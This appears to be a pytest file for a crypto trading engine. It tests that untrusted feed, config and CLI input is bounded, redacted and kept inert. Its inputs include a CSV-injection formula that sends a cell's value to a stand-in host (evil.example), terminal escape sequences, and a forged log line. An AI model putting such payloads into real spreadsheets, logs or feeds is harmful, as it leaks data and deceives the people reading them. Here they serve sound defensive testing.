"""Issue 14's repros for outside text and numbers: each enters through engine.untrusted, a bad
record costs one alert and never the engine, and what is written stays bounded and inert."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from engine.agent import build_agent
from engine.journal import read_csv_rows
from engine.modes import resolve_settings
from engine.runtime import AlertEvent, EngineEvent, EngineState, Runtime, SimClock
from tests.conftest import CliRunner

COPY_JSONL = """\
[strategies.memecoin_farming]
enabled = false
[strategies.copy_trading.feed]
kind = "jsonl"
path = "copy/leader.jsonl"
"""


def leader_line(trade_id: str, **fields: Any) -> str:
    record = {
        "kind": "trade",
        "id": trade_id,
        "leader": "whale1",
        "symbol": "WIF/USDC",
        "side": "buy",
        "price": "2.15",
        "size_usd": "100",
        "time": "2026-01-01T00:05:00Z",
        **fields,
    }
    return json.dumps(record) + "\n"


def copy_runtime(workdir: Path) -> tuple[Runtime, SimClock, list[EngineEvent], Path]:
    (workdir / "kobe.toml").write_text(COPY_JSONL)
    settings = resolve_settings({}, workdir)
    clock = SimClock(settings.config.paper.sim_start)
    runtime = Runtime(
        settings, confirmed=False, clock=clock, tick_seconds=60, agent_factory=build_agent
    )
    events: list[EngineEvent] = []
    runtime.subscribe(events.append)
    runtime.build()
    return runtime, clock, events, settings.data_dir / "copy" / "leader.jsonl"


def alerts(events: list[EngineEvent]) -> list[AlertEvent]:
    return [e.payload for e in events if isinstance(e.payload, AlertEvent)]


def test_a_bad_leader_price_is_skipped_with_one_alert_and_the_engine_runs_on(
    workdir: Path,
) -> None:
    runtime, clock, events, feed = copy_runtime(workdir)
    try:
        runtime.mark_running()
        runtime.tick()  # the feed starts at the file's end (no backlog)
        feed.parent.mkdir(parents=True, exist_ok=True)
        with feed.open("a") as fh:
            fh.write(leader_line("t-bad", price="1e-999999999"))
            fh.write(leader_line("t-good"))
        for _ in range(3):
            clock.advance(60)
            runtime.tick()
        feed_alerts = [a for a in alerts(events) if a.code == "feed"]
        assert len(feed_alerts) == 1  # one alert for the one bad record, not one per tick
        assert "'price': not a plain decimal number" in feed_alerts[0].message
        assert runtime.status().state is EngineState.RUNNING
        assert not runtime.failure
        orders = (runtime.settings.data_dir / "logs" / "orders.jsonl").read_text()
        assert "copy whale1 t-good" in orders  # the good line after it was copied
    finally:
        runtime.stop()


def test_a_huge_leader_name_with_escapes_is_capped_and_inert(workdir: Path) -> None:
    runtime, clock, _events, feed = copy_runtime(workdir)
    name = "\x1b]0;owned\x07\x1b[2J[bold red]x[/] oops [/]\r\n2026 kill switch RESET " + "A" * (
        2 * 1024 * 1024
    )
    try:
        runtime.tick()
        feed.parent.mkdir(parents=True, exist_ok=True)
        with feed.open("a") as fh:
            fh.write(leader_line("t-1", leader=name))
        clock.advance(60)
        runtime.tick()
        clock.advance(60)
        runtime.tick()
    finally:
        runtime.stop()
    data = runtime.settings.data_dir
    orders = (data / "logs" / "orders.jsonl").read_text()
    assert "[bold red]x[/] oops [/] 2026 kill switch RESET" in orders  # kept as data
    assert "\x1b" not in orders and "\\u001b" not in orders and "\r" not in orders
    total = sum(p.stat().st_size for p in data.rglob("*") if p.is_file() and p != feed)
    assert total < 200_000  # a 2 MB name did not make megabytes of journals


def test_orders_csv_cells_cannot_run_as_formulas(cli: CliRunner, workdir: Path) -> None:
    ticket = workdir / "t.toml"
    ticket.write_text(
        'symbol = "BTC/USDT"\nside = "buy"\ntype = "market"\nquote = "15"\n'
        'reason = \'=HYPERLINK("http://evil.example/?"&A1,"click")\'\n'
    )
    result = cli("trade", "--file", str(ticket), "--yes")
    assert result.code == 0, result.err
    reasons = [r["reason"] for r in read_csv_rows(workdir / "data" / "logs" / "orders.csv")]
    assert reasons[0].startswith("'=HYPERLINK(")
    assert not any(r.startswith("=") for r in reasons)
    jsonl = [json.loads(x) for x in (workdir / "data" / "logs" / "orders.jsonl").open()]
    assert jsonl[0]["reason"].startswith("=HYPERLINK(")  # JSONL keeps the data as it is


def test_kobe_run_exits_1_when_the_engine_stops_on_an_error(
    cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken_tick(self: Runtime) -> None:
        raise ArithmeticError("a price no decimal can hold")

    monkeypatch.setattr(Runtime, "tick", broken_tick)
    result = cli("run", "--headless", "--ticks", "3")
    assert result.code == 1
    assert "the engine stopped on an error: a price no decimal can hold" in result.err
    assert "engine error" in result.out  # said once as an alert line too


def test_a_feed_line_cannot_forge_a_log_line_on_stdout(workdir: Path) -> None:
    runtime, clock, events, feed = copy_runtime(workdir)
    try:
        runtime.tick()
        feed.parent.mkdir(parents=True, exist_ok=True)
        with feed.open("a") as fh:
            fh.write(leader_line("t-1", side="x\r\n2026-01-01T00:00:00Z risk   ARMED (reset)"))
        clock.advance(60)
        runtime.tick()
    finally:
        runtime.stop()
    [alert] = [a for a in alerts(events) if a.code == "feed"]
    assert "\n" not in alert.message and "\r" not in alert.message


def test_risk_trip_reason_is_cleaned_and_redacted_before_it_is_written(
    cli: CliRunner, workdir: Path
) -> None:
    secret = 'pa\\ss"word-CANARY-99'
    env = {"OKX_PASSWORD": secret}
    reason = f"leaked {secret} and [/] \x1b[31m"
    result = cli("risk", "trip", "--reason", reason, env=env)
    assert result.code == 0, result.err
    for name in ("audit.jsonl", "execution_runtime.json", "risk_commands.jsonl"):
        path = workdir / "data" / name
        if path.exists():
            text = path.read_text()
            assert "CANARY-99" not in text and "\\u001b" not in text, name
    status = cli("risk", "status", "--json", env=env)
    assert "leaked *** and [/] [31m" in json.loads(status.out)["reason"]


@pytest.mark.parametrize(
    ("toml", "line"),
    [
        ('[paths]\ndata_dir = "d\\u001b]0;owned\\u0007"\n', "paths.data_dir: must not contain"),
        ('symbols = ["BTC\\u001b/USDT"]\n', "symbols: must not contain control characters"),
        (f'[paths]\ndata_dir = "{"x" * 1001}"\n', "paths.data_dir: must be at most 1000"),
    ],
)
def test_config_strings_with_control_characters_are_refused(
    cli: CliRunner, workdir: Path, toml: str, line: str
) -> None:
    (workdir / "kobe.toml").write_text(toml)
    result = cli("health")
    assert result.code == 2
    assert line in result.err
    assert "\x1b" not in result.err and "\x07" not in result.err
    assert not (workdir / "data").exists()  # nothing changed on disk
